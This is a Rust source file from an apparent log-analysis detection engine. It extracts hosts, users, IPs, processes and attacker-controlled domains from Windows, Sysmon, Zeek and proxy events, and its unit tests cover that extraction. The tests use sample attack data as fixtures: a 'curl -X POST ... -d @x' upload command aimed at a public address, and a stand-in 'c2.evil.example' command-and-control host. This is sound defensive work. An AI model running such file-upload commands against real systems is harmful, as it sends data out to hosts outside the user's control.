//! The entities a detection is about, read from the event's fields by their Sigma names
//! across the decoders' logsources (Windows, Sysmon, Zeek, Suricata, web and firewall
//! logs), for the analysis engine.

use std::net::IpAddr;

use watchfloor_event::{Event, FieldId, FieldTable, Value};
use watchfloor_triage::detection::Entities;

/// Field names per entity, in order of preference.
const HOSTS: &[&str] = &[
    "Computer",
    "Hostname",
    "hostname",
    "host",
    "ComputerName",
    "dvchost",
    "cs-host",
    "id.resp_h",
    "node",
];
const USERS: &[&str] = &[
    "User",
    "TargetUserName",
    "SubjectUserName",
    "AccountName",
    "UserName",
    "user",
    "username",
    "suser",
    "cs-username",
    "userIdentity.userName",
    "userIdentity.arn",
];
const SRC_IPS: &[&str] = &[
    "SourceIp",
    "IpAddress",
    "src_ip",
    "SourceAddress",
    "c-ip",
    "id.orig_h",
    "src",
    "ClientIP",
    "clientip",
    "sourceIPAddress",
];
const DST_IPS: &[&str] = &[
    "DestinationIp",
    "dest_ip",
    "DestAddress",
    "id.resp_h",
    "dst",
    "s-ip",
];
const PROCESSES: &[&str] = &["ProcessGuid"];
const PARENTS: &[&str] = &["ParentProcessGuid"];
const IMAGES: &[&str] = &["Image", "NewProcessName", "process"];
/// Names, domains and URLs an attacker controls as often as not.
const NAMES: &[&str] = &[
    "DestinationHostname",
    "QueryName",
    "query",
    "dns.rrname",
    "dns.queries.rrname",
    "http.hostname",
];

/// Field ids of every entity field, resolved once per hunt.
pub struct EntityFields {
    hosts: Vec<FieldId>,
    users: Vec<FieldId>,
    src_ips: Vec<FieldId>,
    dst_ips: Vec<FieldId>,
    processes: Vec<FieldId>,
    parents: Vec<FieldId>,
    images: Vec<FieldId>,
    names: Vec<FieldId>,
    /// A proxy request's destination host (`cs-host`): an indicator, not the machine.
    proxy_host: FieldId,
}

impl EntityFields {
    pub fn new(table: &FieldTable) -> Self {
        let ids = |names: &[&str]| names.iter().map(|n| table.intern(n)).collect();
        EntityFields {
            hosts: ids(HOSTS),
            users: ids(USERS),
            src_ips: ids(SRC_IPS),
            dst_ips: ids(DST_IPS),
            processes: ids(PROCESSES),
            parents: ids(PARENTS),
            images: ids(IMAGES),
            names: ids(NAMES),
            proxy_host: table.intern("cs-host"),
        }
    }

    /// The host, first of the host fields. A web request seen by a proxy or a network
    /// sensor (category `proxy`) names the site it goes to, not the machine: it has
    /// none (the machine is its source address).
    pub fn host(&self, ev: &Event) -> Option<String> {
        if is_proxy(ev) {
            return None;
        }
        first(ev, &self.hosts)
    }

    pub fn extract(&self, ev: &Event) -> Entities {
        let host = self.host(ev);
        let src_ip = first(ev, &self.src_ips);
        let dst_ip = first(ev, &self.dst_ips);
        let mut indicators = Vec::new();
        for ip in [&src_ip, &dst_ip].into_iter().flatten() {
            if is_public(ip) {
                indicators.push(ip.clone());
            }
        }
        let proxy_site = is_proxy(ev).then_some(self.proxy_host);
        for &id in self.names.iter().chain(&proxy_site) {
            if let Some(Value::Str(s)) = ev.get(id) {
                let name = s.trim().trim_end_matches('.');
                // Single-label names are local (WPAD, NetBIOS), not indicators.
                if name.contains('.') && name.parse::<IpAddr>().is_err() {
                    indicators.push(name.to_string());
                }
            }
        }
        let process = first(ev, &self.processes);
        let parent_process = first(ev, &self.parents);
        let mut e = Entities {
            host,
            user: first(ev, &self.users),
            src_ip,
            dst_ip,
            process,
            parent_process,
            image: first(ev, &self.images),
            indicators,
        };
        e.normalize();
        e
    }
}

/// Whether `ev` is a web request as a proxy logs it (Sigma category `proxy`).
fn is_proxy(ev: &Event) -> bool {
    ev.logsource.category() == Some("proxy")
}

/// The first of `ids` the event has a value in (empty text and `-` are none), as text.
pub(crate) fn first(ev: &Event, ids: &[FieldId]) -> Option<String> {
    ids.iter().find_map(|&id| match ev.get(id)? {
        Value::Null => None,
        Value::Str(s) if s.trim().is_empty() || s.trim() == "-" => None,
        v => Some(v.to_string()),
    })
}

/// Appends the public IPv4 addresses written in `text` (`curl https://203.0.113.9/up`).
pub fn public_ipv4s_in(text: &str, out: &mut Vec<String>) {
    for token in text.split(|c: char| !(c.is_ascii_digit() || c == '.')) {
        let token = token.trim_matches('.');
        if token.len() >= 7
            && token.bytes().filter(|&b| b == b'.').count() == 3
            && token.parse::<std::net::Ipv4Addr>().is_ok()
            && is_public(token)
            && !out.iter().any(|x| x == token)
        {
            out.push(token.to_string());
        }
    }
}

/// Whether `ip` is an address outside any organisation: not private, shared (carrier
/// NAT, 100.64.0.0/10), loopback, link-local, unspecified, broadcast or multicast.
/// Text that is not an address is not public.
pub(crate) fn is_public(ip: &str) -> bool {
    match ip.trim().parse::<IpAddr>() {
        Ok(IpAddr::V4(a)) => {
            !(a.is_private()
                || a.is_loopback()
                || a.is_link_local()
                || a.is_unspecified()
                || a.is_broadcast()
                || a.is_multicast()
                || (a.octets()[0] == 100 && (a.octets()[1] & 0xc0) == 64))
        }
        Ok(IpAddr::V6(a)) => {
            let s = a.segments()[0];
            !(a.is_loopback()
                || a.is_unspecified()
                || a.is_multicast()
                || (s & 0xfe00) == 0xfc00
                || (s & 0xffc0) == 0xfe80)
        }
        Err(_) => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sysmon_network_event() {
        let table = FieldTable::new();
        let f = EntityFields::new(&table);
        let mut ev = Event::new();
        for (name, value) in [
            ("Computer", "WS01.corp.local"),
            ("User", "CORP\\bob"),
            ("SourceIp", "10.0.0.5"),
            ("DestinationIp", "203.0.113.7"),
            ("DestinationHostname", "c2.evil.example"),
            ("ProcessGuid", "{abc}"),
            ("Image", "C:\\x\\rundll32.exe"),
        ] {
            let id = table.intern(name);
            ev.push_str(id, id, value);
        }
        let e = f.extract(&ev);
        assert_eq!(e.host.as_deref(), Some("ws01.corp.local"));
        assert_eq!(e.user.as_deref(), Some("CORP\\bob"));
        assert_eq!(e.src_ip.as_deref(), Some("10.0.0.5"));
        assert_eq!(e.indicators, vec!["203.0.113.7", "c2.evil.example"]);
        assert_eq!(e.process.as_deref(), Some("{abc}"));
    }

    #[test]
    fn a_proxy_request_names_its_site_as_an_indicator_not_a_host() {
        let table = FieldTable::new();
        let f = EntityFields::new(&table);
        let mut ev = Event::new();
        ev.logsource = watchfloor_event::LogSource::new(Some("zeek"), Some("proxy"), Some("http"));
        for (name, value) in [
            ("host", "updates.hopto.org"),
            ("cs-host", "updates.hopto.org"),
            ("id.orig_h", "10.0.0.5"),
            ("id.resp_h", "203.0.113.9"),
        ] {
            let id = table.intern(name);
            ev.push_str(id, id, value);
        }
        let e = f.extract(&ev);
        assert_eq!(e.host, None);
        assert_eq!(e.src_ip.as_deref(), Some("10.0.0.5"));
        assert_eq!(e.indicators, vec!["203.0.113.9", "updates.hopto.org"]);
    }

    #[test]
    fn addresses_in_values() {
        let mut out = Vec::new();
        public_ipv4s_in(
            "curl -X POST https://203.0.113.9/up -d @x 10.0.0.1 1.2.3 999.1.1.1",
            &mut out,
        );
        assert_eq!(out, vec!["203.0.113.9"]);
    }
}
